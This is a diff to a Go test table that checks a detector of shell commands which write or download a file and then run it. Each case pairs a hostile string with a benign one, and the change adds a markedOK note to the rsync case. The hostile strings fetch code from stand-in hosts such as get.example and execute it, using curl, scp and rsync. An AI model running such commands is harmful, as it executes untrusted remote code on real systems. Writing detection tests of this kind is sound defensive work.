@@ -99,7 +99,7 @@ func TestWriteThenRunIntoDirectories(t *testing.T) {
 		{name: "cp into a directory, then the program", hostile: "cp /tmp/t bin/ && bin/t", want: "write, then run", needs: []string{"cp"},
 			benign: "cp README.md docs/ && ./scripts/build.sh"},
 		{name: "rsync from a host into the directory, then the program", hostile: "rsync -a host.example:/x/tool .; ./tool", want: "downloaded at line 1",
-			benign: "rsync -a dist/ host.example:/srv/www && ./dist/check"},
+			benign: "rsync -a dist/ host.example:/srv/www && ./dist/check", markedOK: "sends the file dist/ to host.example"},
 		{name: "scp from a host, then the program", hostile: "scp host.example:/x/tool bin/; bin/tool", want: "downloaded at line 1"},
 		{name: "downloaded, then python", hostile: "curl -o x.py https://get.example/x.py; python3 x.py", want: "downloaded at line 1"},
 		{name: "downloaded, then through a wrapper", hostile: "curl -o tool https://get.example/t; chmod +x tool; timeout 5 ./tool", want: "downloaded at line 1"},
